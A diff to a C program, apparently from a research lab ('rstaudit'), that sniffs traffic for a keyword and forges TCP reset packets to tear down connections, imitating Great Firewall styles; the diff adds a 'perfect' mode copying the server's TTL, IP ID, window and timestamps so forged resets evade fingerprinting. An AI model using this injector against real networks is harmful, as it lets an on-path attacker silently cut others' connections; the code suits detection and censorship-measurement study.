@@ -1,7 +1,7 @@
 /*
  * inject.c: an on-path TCP reset injector for the rstaudit lab.
  *
- *	inject -i IFACE -k KEYWORD [-cRT] [-G 1|2] [-n COUNT] [-p PORT]
+ *	inject -i IFACE -k KEYWORD [-cPRT] [-G 1|2] [-n COUNT] [-p PORT]
  *	    [-d DELAY_MS] [-t SECONDS]
  *
  * Sniffs the packets arriving on IFACE with an AF_PACKET socket (it never
@@ -42,6 +42,12 @@
  *    and window counting up by one from one base per burst (TTL 100,
  *    101, 102; window from the PRNG), IPv4 ID from the PRNG, DF clear.
  *
+ * With -P it is the perfect injector: one RST|ACK to the client at the
+ * exact seq, copying from the server's last packet leaving IFACE its TTL,
+ * DF, flow label and window, the next IPv4 ID of its series, and its
+ * timestamp (TSval; TSecr the trigger's TSval, as the server would echo).
+ * Only the race (the server's genuine data after it) can show it.
+ *
  * Forged packets go out through raw IP sockets, so the kernel routes them.
  * Prints "ready" on stdout once capturing; logs each injection on stderr.
  * Exits on SIGINT/SIGTERM or after SECONDS (default 120).
@@ -72,7 +78,8 @@
 #define TH_ACK		0x10
 #define FORGED_TTL	64
 #define FIXED_IPID	0x5a5a	/* -T: the same ID on every forged RST */
-#define MAX_TTLS	16
+#define MAX_SEEN	16
+#define RST_MAX		(40 + 32)	/* IPv6, TCP with a timestamp */
 
 static const uint32_t burst_offset[BURST] = { 0, 1460, 4380 };
 static const uint8_t gfw1_ttl[BURST] = { 47, 112, 201 };
@@ -90,15 +97,13 @@ struct seg {
 	uint8_t		 ttl;		/* as received; as sent, for a forged RST
 					 * (0: FORGED_TTL) */
 	uint8_t		 flags;		/* a forged RST's (0: RST|ACK) */
+	uint8_t		 df;		/* IPv4 DF set */
+	uint32_t	 flowlabel;	/* IPv6 */
+	int		 has_ts;	/* a timestamp option (TSval, TSecr) */
+	uint32_t	 tsval, tsecr;
 	size_t		 paylen;
 };
 
-/* -T: the TTL each address's packets leave IFACE with. */
-struct ttl_seen {
-	int		 family;
-	uint8_t		 addr[16];
-	uint8_t		 ttl;
-};
 
 struct pending {
 	struct seg	 rst;
@@ -111,8 +116,10 @@ static int npending;
 static int raw4 = -1, raw6 = -1;
 static int client_only, copy_ttl, trigger_ttl, gfw_type;
 static uint32_t prng_state = 0x2545f491;
-static struct ttl_seen ttls[MAX_TTLS];
-static int nttls;
+static int perfect;
+static struct seg seen[MAX_SEEN];	/* -T, -P: by source, the last
+					 * packet leaving IFACE */
+static int nseen;
 
 static void
 on_signal(int sig)
@@ -166,6 +173,28 @@ csum_fold(uint32_t sum)
 	return (uint16_t)~sum;
 }
 
+/* The timestamp option among len bytes of TCP options, into s. */
+static void
+opt_ts(const uint8_t *o, size_t len, struct seg *s)
+{
+	size_t i = 0;
+
+	while (i < len && o[i] != 0) {
+		if (o[i] == 1) {
+			i++;
+			continue;
+		}
+		if (i + 1 >= len || o[i + 1] < 2 || i + o[i + 1] > len)
+			return;
+		if (o[i] == 8 && o[i + 1] == 10) {
+			s->has_ts = 1;
+			s->tsval = get32(o + i + 2);
+			s->tsecr = get32(o + i + 6);
+		}
+		i += o[i + 1];
+	}
+}
+
 /*
  * Parse an Ethernet frame into a TCP segment.  Returns the payload offset
  * in frame, or -1 when it is not an unfragmented TCP segment.
@@ -191,6 +220,7 @@ seg_parse(const uint8_t *frame, size_t len, struct seg *s)
 			return -1;
 		len = get16(ip + 2);
 		s->ipid = get16(ip + 4);
+		s->df = (get16(ip + 6) & 0x4000) != 0;
 		s->ttl = ip[8];
 		memcpy(s->src, ip + 12, 4);
 		memcpy(s->dst, ip + 16, 4);
@@ -202,6 +232,7 @@ seg_parse(const uint8_t *frame, size_t len, struct seg *s)
 		s->family = AF_INET6;
 		iplen = 40;
 		s->ttl = ip[7];
+		s->flowlabel = get32(ip) & 0xfffff;
 		len = 40 + get16(ip + 4);
 		memcpy(s->src, ip + 8, 16);
 		memcpy(s->dst, ip + 24, 16);
@@ -221,6 +252,7 @@ seg_parse(const uint8_t *frame, size_t len, struct seg *s)
 	s->ack = get32(tcp + 8);
 	s->win = get16(tcp + 14);
 	s->paylen = len - iplen - thl;
+	opt_ts(tcp + 20, thl - 20, s);
 	return (long)(ETH_HLEN + iplen + thl);
 }
 
@@ -233,28 +265,33 @@ seg_same(const struct seg *a, const struct seg *b)
 	    memcmp(a->src, b->src, 16) == 0 && memcmp(a->dst, b->dst, 16) == 0;
 }
 
-/* Build an RST|ACK for segment s (addresses as given) into buf; its length. */
+/*
+ * Build an RST (s->flags, default RST|ACK) for segment s (addresses as
+ * given) into buf, RST_MAX bytes; its length.
+ */
 static size_t
 rst_build(const struct seg *s, uint8_t *buf)
 {
 	size_t alen = s->family == AF_INET ? 4 : 16;
 	size_t iplen = s->family == AF_INET ? 20 : 40;
+	size_t thl = s->has_ts ? 32 : 20;
 	uint8_t *tcp = buf + iplen;
 	uint32_t sum;
 
-	memset(buf, 0, iplen + 20);
+	memset(buf, 0, iplen + thl);
 	if (s->family == AF_INET) {
 		buf[0] = 0x45;
-		put16(buf + 2, iplen + 20);
-		put16(buf + 4, s->ipid);	/* copied; DF clear */
+		put16(buf + 2, iplen + thl);
+		put16(buf + 4, s->ipid);
+		put16(buf + 6, s->df ? 0x4000 : 0);
 		buf[8] = s->ttl ? s->ttl : FORGED_TTL;
 		buf[9] = IPPROTO_TCP;
 		memcpy(buf + 12, s->src, 4);
 		memcpy(buf + 16, s->dst, 4);
 		put16(buf + 10, csum_fold(csum_add(0, buf, 20)));
 	} else {
-		buf[0] = 0x60;
-		put16(buf + 4, 20);
+		put32(buf, 0x60000000 | s->flowlabel);
+		put16(buf + 4, thl);
 		buf[6] = IPPROTO_TCP;
 		buf[7] = s->ttl ? s->ttl : FORGED_TTL;
 		memcpy(buf + 8, s->src, 16);
@@ -264,21 +301,26 @@ rst_build(const struct seg *s, uint8_t *buf)
 	put16(tcp + 2, s->dport);
 	put32(tcp + 4, s->seq);
 	put32(tcp + 8, s->ack);
-	tcp[12] = 5 << 4;
+	tcp[12] = (uint8_t)(thl / 4 << 4);
 	tcp[13] = s->flags ? s->flags : TH_RST | TH_ACK;
 	put16(tcp + 14, s->win);
+	if (s->has_ts) {
+		memcpy(tcp + 20, "\x01\x01\x08\x0a", 4);
+		put32(tcp + 24, s->tsval);
+		put32(tcp + 28, s->tsecr);
+	}
 	/* Pseudo-header: addresses, protocol, TCP length. */
 	sum = csum_add(0, s->src, alen);
 	sum = csum_add(sum, s->dst, alen);
-	sum += IPPROTO_TCP + 20;
-	put16(tcp + 16, csum_fold(csum_add(sum, tcp, 20)));
-	return iplen + 20;
+	sum += IPPROTO_TCP + (uint32_t)thl;
+	put16(tcp + 16, csum_fold(csum_add(sum, tcp, thl)));
+	return iplen + thl;
 }
 
 static int
 rst_send(const struct seg *s)
 {
-	uint8_t buf[60];
+	uint8_t buf[RST_MAX];
 	size_t len = rst_build(s, buf);
 	struct sockaddr_in sin = { .sin_family = AF_INET };
 	struct sockaddr_in6 sin6 = { .sin6_family = AF_INET6 };
@@ -311,37 +353,52 @@ seg_name(const struct seg *s, char *buf, size_t size)
 	return buf;
 }
 
-/* -T: remember the TTL of a packet leaving IFACE, by its source. */
+/* -T, -P: remember a packet leaving IFACE, by its source. */
 static void
-ttl_learn(const struct seg *s)
+seen_learn(const struct seg *s)
 {
 	int i;
 
-	for (i = 0; i < nttls; i++)
-		if (ttls[i].family == s->family &&
-		    memcmp(ttls[i].addr, s->src, 16) == 0)
+	for (i = 0; i < nseen; i++)
+		if (seen[i].family == s->family &&
+		    memcmp(seen[i].src, s->src, 16) == 0)
 			break;
-	if (i == MAX_TTLS)
+	if (i == MAX_SEEN)
 		return;
-	if (i == nttls) {
-		ttls[i].family = s->family;
-		memcpy(ttls[i].addr, s->src, 16);
-		nttls++;
-	}
-	ttls[i].ttl = s->ttl;
+	if (i == nseen)
+		nseen++;
+	seen[i] = *s;
 }
 
-/* -T: the TTL addr's packets leave with (0: none seen, FORGED_TTL). */
-static uint8_t
-ttl_of(int family, const uint8_t *addr)
+/* -T, -P: the last packet addr sent out of IFACE, or NULL. */
+static const struct seg *
+seen_of(int family, const uint8_t *addr)
 {
 	int i;
 
-	for (i = 0; i < nttls; i++)
-		if (ttls[i].family == family &&
-		    memcmp(ttls[i].addr, addr, 16) == 0)
-			return ttls[i].ttl;
-	return 0;
+	for (i = 0; i < nseen; i++)
+		if (seen[i].family == family &&
+		    memcmp(seen[i].src, addr, 16) == 0)
+			return &seen[i];
+	return NULL;
+}
+
+/*
+ * -P: the RST the server's stack would send next, from its last packet
+ * v: its TTL, DF, flow label, window, next IPv4 ID and timestamp, the
+ * trigger's (t) TSval echoed.
+ */
+static void
+perfect_shape(struct seg *c, const struct seg *t, const struct seg *v)
+{
+	c->ttl = v->ttl;
+	c->df = v->df;
+	c->flowlabel = v->flowlabel;
+	c->win = v->win;
+	c->ipid = (uint16_t)(v->ipid + 1);
+	c->has_ts = v->has_ts && t->has_ts;
+	c->tsval = v->tsval;
+	c->tsecr = t->tsval;
 }
 
 /* xorshift32: the GFW modes' "random" IDs and windows. */
@@ -380,6 +437,8 @@ static void
 inject(const struct seg *t, double delay)
 {
 	struct seg c = *t, sv = *t;
+	const struct seg *v;
+	long n = perfect ? 1 : burst_count;
 	char name[128];
 	uint16_t base;
 	double t0;
@@ -392,27 +451,39 @@ inject(const struct seg *t, double delay)
 	c.dport = t->sport;
 	c.ack = t->seq + (uint32_t)t->paylen;
 	c.ttl = sv.ttl = 0;
+	c.df = sv.df = 0;
+	c.flowlabel = sv.flowlabel = 0;
+	c.has_ts = sv.has_ts = 0;
+	v = seen_of(c.family, c.src);
 	if (copy_ttl) {
-		c.ttl = ttl_of(c.family, c.src);
+		c.ttl = v ? v->ttl : 0;
 		c.ipid = sv.ipid = FIXED_IPID;
 	}
 	if (trigger_ttl)
 		c.ttl = t->ttl;
 	base = prng16();
 	t0 = clk_mono_s();
-	for (i = 0; i < burst_count; i++) {
+	for (i = 0; i < n; i++) {
 		c.seq = t->ack + burst_offset[i % BURST];
 		if (gfw_type)
 			gfw_shape(&c, t, i, base);
+		if (perfect && v)
+			perfect_shape(&c, t, v);
 		rst_send(&c);
 	}
 	t0 = clk_mono_s() - t0;
 	fprintf(stderr, "inject: trigger %s seq %u ack %u: %ld RSTs to the "
 	    "client at seq %u%s, ttl %u%s, in %.3f ms (%.0f/s)\n",
-	    seg_name(t, name, sizeof(name)), t->seq, t->ack, burst_count,
-	    t->ack, gfw_type == 1 ? " (type 1: R, no ACK)" : " +1460 +4380",
+	    seg_name(t, name, sizeof(name)), t->seq, t->ack, n,
+	    t->ack, gfw_type == 1 ? " (type 1: R, no ACK)" :
+	    n == 1 ? "" : " +1460 +4380",
 	    c.ttl ? c.ttl : FORGED_TTL, gfw_type ? " (last)" : "", t0 * 1e3,
-	    t0 > 0 ? burst_count / t0 : 0.0);
+	    t0 > 0 ? n / t0 : 0.0);
+	if (perfect)
+		fprintf(stderr, "inject: perfect: %s, ip id %u, window %u, "
+		    "df %d, tsval %u tsecr %u\n", v ? "copied the server's "
+		    "last packet" : "NO server packet seen", c.ipid, c.win,
+		    c.df, c.tsval, c.tsecr);
 
 	if (client_only)
 		return;
@@ -488,7 +559,7 @@ sniff_open(const char *ifname)
 static void
 usage(void)
 {
-	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-cRT] [-G 1|2] "
+	fprintf(stderr, "usage: inject -i IFACE -k KEYWORD [-cPRT] [-G 1|2] "
 	    "[-n COUNT] [-p PORT] [-d DELAY_MS] [-t SECONDS]\n");
 	exit(2);
 }
@@ -504,9 +575,10 @@ main(int argc, char *argv[])
 	double delay = 0.3, deadline, seconds = 120;
 	int fd, ch;
 
-	while ((ch = getopt(argc, argv, "cG:i:k:n:p:d:t:RT")) != -1) {
+	while ((ch = getopt(argc, argv, "cG:i:k:n:p:d:t:PRT")) != -1) {
 		switch (ch) {
 		case 'c': client_only = 1; break;
+		case 'P': perfect = 1; break;
 		case 'G': gfw_type = (int)strtol(optarg, NULL, 10); break;
 		case 'n': burst_count = strtol(optarg, NULL, 10); break;
 		case 'R': trigger_ttl = 1; break;
@@ -555,8 +627,8 @@ main(int argc, char *argv[])
 			continue;
 		off = seg_parse(frame, (size_t)n, &s);
 		if (from.sll_pkttype == PACKET_OUTGOING) {
-			if (copy_ttl && off >= 0)
-				ttl_learn(&s);
+			if ((copy_ttl || perfect) && off >= 0)
+				seen_learn(&s);
 			continue;
 		}
 		if (off < 0 || s.paylen == 0 || (port && s.dport != port))
